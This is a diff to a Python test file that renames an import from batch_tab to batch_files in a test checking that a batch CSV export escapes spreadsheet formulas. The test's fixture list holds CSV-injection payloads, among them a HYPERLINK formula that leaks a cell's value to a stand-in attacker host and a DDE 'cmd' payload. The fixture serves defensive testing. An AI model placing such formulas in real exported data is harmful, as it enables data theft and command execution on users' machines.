@@ -8,7 +8,7 @@ import csv
 from pathlib import Path
 
 from inference.results import BatchItem, BatchResult, PageResult
-from ui import batch_tab
+from ui import batch_files
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&B3,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"]
 
@@ -23,7 +23,7 @@ def test_cells_a_spreadsheet_would_run_are_text_and_a_documents_pages_are_readab
     batch = BatchResult(
         results=items, total=len(items), successful=len(items) - 1, failed=1, processing_time=0.3, model="embedded"
     )
-    csv_path = Path(batch_tab.write_downloads(batch)[0])
+    csv_path = Path(batch_files.write_downloads(batch)[0])
     with open(csv_path, encoding="utf-8", newline="") as f:
         rows = list(csv.DictReader(f))
     assert [row["text"] for row in rows[: len(FORMULAS)]] == [f"'{text}" for text in FORMULAS]
@@ -32,4 +32,4 @@ def test_cells_a_spreadsheet_would_run_are_text_and_a_documents_pages_are_readab
     assert document["text"] == "[page 1]\nPage 1 text\n\n[page 2]\nPage 2 text", document
     assert rows[-1]["error"] == "'-not an image" and rows[-1]["status"] == "error"
     cells = [value for row in rows for value in row.values()]
-    assert not any(value.startswith(batch_tab.FORMULA_START) for value in cells), cells
+    assert not any(value.startswith(batch_files.FORMULA_START) for value in cells), cells
